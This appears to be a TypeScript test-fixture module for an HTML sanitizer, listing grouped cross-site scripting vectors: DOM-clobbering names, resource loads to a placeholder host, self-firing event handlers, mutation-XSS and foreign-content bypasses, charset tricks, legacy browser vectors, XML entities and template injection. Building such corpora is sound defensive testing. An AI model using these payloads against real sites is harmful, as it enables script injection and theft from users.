import { attacks } from './corpus.js';

// Our own writing. DOMPurify's npm package ships no fixtures; its repository has about two hundred. What these are about (names that shadow
// the document's, Unicode before schemes, character sets, VML and behaviours, XML, raw text, foreign content …) is covered by the kinds
// below, and the test of the corpus asks for each of them.

/** Stands for the address of a second server, which nobody may ever ask. */
export const CANARY = '@canary@';

const words = (list: string): readonly string[] => list.split(' ');

const shadowed = words(
  'createElement cookie getElementById body location parentNode nodeName nodeType children attributes removeChild setAttribute ' +
    'firstElementChild adoptNode activeElement implementation forms images links head config trustedTypes litNonce currentScript ' +
    'documentElement defaultView querySelector baseURI customElements',
);

/** Spaces and marks that no URL parser drops, though a filter might think so. */
const spaces = words('a0 1680 180e 2000 2003 2007 2008 200a 200b 200e 2028 2029 202f 205f 3000 feff 85 ad');

const image = '<img src=x onerror=canary()>';
const quoted = image.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const rawText = words('noscript noembed noframes xmp textarea title style iframe script listing plaintext comment');

/** What asks a server, or would if it were shown as sent. Pictures of an article may be asked for, so they are not here; films wait for a press. */
const asking = [
  ...words('stylesheet preload prefetch preconnect modulepreload icon manifest prerender import alternate').map(
    (rel) => `<link rel="${rel}" as=script href="@canary@/${rel}">`,
  ),
  '<style>@import "@canary@/a.css"; @font-face{font-family:x;src:url(@canary@/f)} *{background:url(@canary@/b)}</style>',
  '<p style="background:url(@canary@/p)">x</p>',
  '<p style="--u:url(@canary@/v);background:var(--u)">x</p>',
  '<ul style="list-style:url(@canary@/l)"><li style="content:image-set(url(@canary@/i) 1x)">x</ul>',
  '<p style="cursor:url(@canary@/c),auto;mask:url(@canary@/m);filter:url(@canary@/f#x);border-image:url(@canary@/i)">x</p>',
  '<script src="@canary@/s.js"></script><script type=module src="@canary@/m.js"></script>',
  '<script type=importmap>{"imports":{"lit":"@canary@/lit.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["@canary@/s"]}]}</script>',
  '<iframe src="@canary@/frame"></iframe><iframe srcdoc="<embed src=@canary@/srcdoc>"></iframe>',
  '<frameset><frame src="@canary@/f"></frameset><fencedframe src="@canary@"></fencedframe><portal src="@canary@"></portal>',
  '<object data="@canary@/o"><param name=src value="@canary@/p"></object><embed src="@canary@/e"><applet codebase="@canary@"></applet>',
  '<form action="@canary@/f" id=f><input type=image src="@canary@/i"><button autofocus>x</button></form>',
  '<body background="@canary@/b"><table background="@canary@/t"><td background="@canary@/d">x',
  '<base href="@canary@/"><script src=x.js></script>',
  '<meta http-equiv=refresh content="0;url=@canary@/m"><meta http-equiv=Set-Cookie content=a=b>',
  '<svg><image href="@canary@/i"/><use href="@canary@/u#x"/><feImage href="@canary@/f"/><script href="@canary@/s"/></svg>',
  '<svg><foreignObject><embed src="@canary@/fo"></foreignObject><style>*{fill:url(@canary@/f)}</style></svg>',
  '<math><mi href="@canary@"><mglyph src="@canary@/g"></mi></math>',
  '<bgsound src="@canary@/b"><img dynsrc="@canary@/d" lowsrc="@canary@/l"><xml src="@canary@/x"></xml>',
  '<p attributionsrc="@canary@/a" cite="@canary@/c" longdesc="@canary@/l" profile="@canary@">x</p>',
  '<html manifest="@canary@/m"><p>x',
  '<video src="@canary@/v" autoplay preload=auto></video><audio src="@canary@/a" autoplay muted preload=auto controls></audio>',
  '<video autoplay muted preload><source src="@canary@/s"><track src="@canary@/t" default kind=captions></video>',
  '<iframe src="@canary@/f.mp4"></iframe><iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ?autoplay=1"></iframe>',
  '<template for=x patchsrc="@canary@/p"></template><p patchsrc="@canary@/q">x</p>',
  '<news-list src="@canary@/l" loading=eager></news-list><news-article src="@canary@/a" loading=eager></news-article>',
  '<related-news src="@canary@/r" loading=eager></related-news><div data-news-list=1 data-src="@canary@/d" data-loading=eager>x</div>',
  '<a href="#news-list?src=@canary@/x&loading=eager">x</a>',
  '<input type=url list=x><datalist id=x><option value="@canary@"></datalist><isindex action="@canary@">',
  '<noscript><embed src="@canary@/n"></noscript><noembed><embed src="@canary@/e"></noembed>',
  '<select><button><selectedcontent></selectedcontent></button><option><embed src="@canary@/s"></option></select>',
  '<div><template shadowrootmode=open><embed src="@canary@/d"><link rel=stylesheet href="@canary@/c"></template></div>',
];

const running = [
  '<svg/onload=canary()>',
  '<img src=x onerror\u000b=canary()>',
  '<img src=x oNeRrOr  =\n "&#99;anary()" >',
  "<img src='x'onerror=canary()>",
  '<img src=x onerror=canary()//',
  '<p onclick=canary() onclick=x id=a id=b onmouseover="canary()">x</p>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=canary()>',
  '<input autofocus onfocus=canary()><select autofocus onfocus=canary()><textarea autofocus onfocus=canary()>',
  '<keygen autofocus onfocus=canary()><isindex type=image src=1 onerror=canary()>',
  '<p contenteditable tabindex=0 autofocus onfocus=canary()>x</p><a href=# autofocus onfocus=canary()>x</a>',
  '<body onload=canary() onpageshow=canary() onresize=canary() onhashchange=canary()><html onclick=canary()>',
  '<style onload=canary()></style><link rel=stylesheet href=data:, onload=canary()>',
  '<object data=x onerror=canary()></object><audio src=data:, onerror=canary()></audio><video src=x onerror=canary()></video>',
  '<script>canary()</script><script type=module>canary()</script><script nomodule>canary()</script>',
  '<script src=data:text/javascript,canary()></script><svg><script href=data:text/javascript,canary() /></svg>',
  '<script\n>canary()</script\n><SCRIPT/x>canary()</SCRIPT x>',
  '<object data="data:text/html,<script>parent.canary()</script>"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KCk8L3NjcmlwdD4=">',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe><iframe src="javascript:parent.canary()" onload=canary()></iframe>',
  '<form action=javascript:canary()><input type=submit><button formaction=javascript:canary()>x</button></form>',
  '<button form=f formaction=javascript:canary()>x</button><form id=f></form><input type=submit form=f>',
  '<svg><a href=javascript:canary()><text>x</text></a><a><animate attributeName=href values=javascript:canary() /><text>y</text></a></svg>',
  '<svg><set attributeName=onmouseover to=canary()><animate attributeName=onunload to=canary() onbegin=canary() dur=1s></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>canary()</handler></svg>',
  '<math><maction actiontype="statusline#javascript:canary()" xlink:href="javascript:canary()">x</maction></math>',
  '<details open ontoggle=canary()><summary>x</summary></details><dialog open onclose=canary()>x</dialog>',
  '<marquee onstart=canary() onfinish=canary()>x</marquee><meter onclick=canary()>x</meter>',
  '<x-canary></x-canary><p is=x-canary-p>x</p><button is="x-canary-b">x</button>',
  '<x-canary><template shadowrootmode=open><x-canary></x-canary></template></x-canary>',
  '<div popover=auto id=q onbeforetoggle=canary()>x</div><button popovertarget=q commandfor=q command=show-popover autofocus>x</button>',
  '<a href="javascript:canary()" target=_self>x</a><area href=javascript:canary() shape=default>',
  '<b <script>canary()</script>0</script></b><scr\u0000ipt>canary()</scr\u0000ipt>',
];

const mutating = [
  ...rawText.map((tag) => `<svg><${tag}><p id="</${tag}>${image}">`),
  ...rawText.map((tag) => `<math><mtext><table><mglyph><${tag}><!--</${tag}>${image}-->`),
  ...rawText.map((tag) => `<select><${tag}></select>${image}</${tag}>`),
  ...rawText.map((tag) => `<p title="</${tag}>${quoted}"><${tag}>${quoted}</${tag}>`),
  '<math><mtext><svg><mtext><textarea><path id="</textarea><img src=1 onerror=canary()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=1 onerror=canary()>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=1 onerror=canary()>">',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style>&lt;img src=1 onerror=canary()&gt;</style></svg></annotation-xml></math>',
  '<table><colgroup><svg><desc><b><form><tr></table><svg><title><a title="</title><img src=1 onerror=canary()>">',
  '<a><table><a><svg><p><style><!--</style><img src=1 onerror=canary()>-->',
  '<div><p><svg><desc><p><math><mi><p><style><a title="</style><img src=1 onerror=canary()>">',
  `${'<div>'.repeat(140)}<svg><style><a title="</style>${image}">`,
  `${'<b>'.repeat(120)}<table><svg><title><style></table>${image}`,
  '<svg><font color=red><p><style></p><img src=1 onerror=canary()></style></font></svg>',
  '<svg><font face=x size=1></font><style><p><img src=1 onerror=canary()></p></style></svg>',
  '<option><style></option></select><b><img src=1 onerror=canary()></style></option>',
  '<listing>\n&lt;img src=1 onerror=canary()&gt;<t t></listing>',
  "<img src=x id/=' onerror=canary()//'>",
  '<![><img src="]><img src=x onerror=canary()//">',
  '<? foo="><script>canary()</script>"><! foo="><script>canary()</script>"></ foo="><script>canary()</script>"><% foo><x foo="%><script>canary()</script>">',
  "<x '=\"foo\"><x foo='><img src=x onerror=canary()//'>",
  '<!--<img src="--><img src=x onerror=canary()//"><!--->--><!----!>x<!-- a -- ><!--<!-->' + image,
  '<svg><![CDATA[><image href="]]><img src=x onerror=canary()//"></svg>',
  '<template><template></template><img src=x onerror=canary()></template></template><script>canary()</script>',
  '<div><template shadowrootmode=closed shadowrootdelegatesfocus><template shadowrootmode=open><script>canary()</script></template></template></div>',
  '<caption><td><tr><tbody><frameset><head><html><col><body onload=canary()>' + image,
];

const charsets = [
  '<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-',
  '<meta charset=x-imap4-modified-utf7>&ADw-script&AD4-canary()&ADw-/script&AD4-',
  '<meta http-equiv=content-type content="text/html;charset=utf-16"><\u0000s\u0000c\u0000r\u0000i\u0000p\u0000t>canary()</script>',
  '\u00bcscript\u00becanary()\u00bc/script\u00be',
  '\u001b$B<img src="\u001b(B"><img src=x onerror=canary()//">',
  '\uff1cscript\uff1ecanary()\uff1c/script\uff1e',
  '\ufeff\u0001<script\ufeff>canary()</script>\ud800<img src=x onerror=canary()>\udc00',
];

const old = [
  '<x style="behavior:url(@canary@/x.htc)" onbegin=canary()>x</x><x style=`behavior:url(#default#time2)` onbegin=`canary()`>',
  '<label datasrc=#x datafld=y dataformatas=html>x</label><xml id=x><y>&lt;img src=x onerror=canary()&gt;</y></xml>',
  '<v:vmlframe style="behavior:url(#default#vml)" src="@canary@/x.vml"></v:vmlframe><line href=javascript:canary()>',
  '<?import namespace=t implementation="#default#time2"><t:set attributeName=innerHTML to="&lt;img src=x onerror=canary()&gt;">',
  '<!--[if IE]><script>canary()</script><![endif]--><![if !IE]><img src=x onerror=canary()><![endif]>',
  '<p style="width:expression(canary());-o-link:\'javascript:canary()\';-moz-binding:url(@canary@/x#y)">x</p>',
  '<p style="font-family:foo}*{background:red;x:\uff45xpression(canary())">x</p>',
  '<event-source src="@canary@/e" onload=canary()><card><onevent type=ontimer><go href="javascript:canary()"/></onevent></card>',
  '<script for=document event=onreadystatechange>canary()</script><table datasrc=#x><td datafld=y></table>',
  '<img src=mhtml:@canary@/x.html!y><iframe src="mhtml:@canary@/x"></iframe><a folder=javascript:canary() style="behavior:url(#default#AnchorClick)">x</a>',
];

const xml = [
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="@canary@/x.xsl"?><root/>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "@canary@/x.dtd"><!ATTLIST img onerror CDATA "canary()">]><x>&y;</x><img src=x>',
  '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate=onLoad xlink:href="javascript:canary()" xlink:type=simple>x</x>',
  '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load ev:handler="javascript:canary()//#x">x</x>',
  '<html:script xmlns:html="http://www.w3.org/1999/xhtml">canary()</html:script><svg:svg onload=canary()></svg:svg>',
  '<xsl:script>canary()</xsl:script><xi:include href="@canary@/x"/><m:math xlink:href="javascript:canary()">x</m:math>',
];

const templates = [
  '{{constructor.constructor("canary()")()}} ${canary()} <%= canary() %> [[canary()]] #{canary()} {%canary()%}',
  '<p v-html="canary()" x-data="canary()" ng-init="canary()" @click="canary()" :click=canary() (click)="canary()" hx-on:click=canary()>x</p>',
  '<!--?lit$1234567$--><?lit$1234567$><p $lit$=x .innerHTML=y ?hidden=z @click=canary()>lit$1234567$</p>',
  '<p __proto__=x constructor=x id=__proto__ name=prototype>x</p><constructor>x</constructor><__proto__>y</__proto__>',
];

/** The kinds of attack, each with its vectors. `canary()` stands for any script. */
export const kinds: Readonly<Record<string, readonly string[]>> = {
  'slots, schemes, handlers': attacks,
  'shadowed names': shadowed.flatMap((name) => [
    `<img name=${name} id=${name} src=a.jpg><a id=${name}><a id=${name} name=${name} href=//evil.example>x</a></a>`,
    `<form name=${name} id=${name} onmouseover=canary()><input name=${name} onfocus=canary() autofocus>x</form>`,
  ]),
  'spaces before a scheme': spaces.map(
    (code) => `<a href='&#x${code};javascript:canary()'>x</a><img src="&#x${code};javascript:canary()">`,
  ),
  'asking a server': asking,
  'running by themselves': running,
  'mutation and foreign content': mutating,
  'character sets': charsets,
  'old browsers': old,
  xml,
  'templates of frameworks': templates,
};

export const vectors: readonly string[] = [...new Set(Object.values(kinds).flat())];
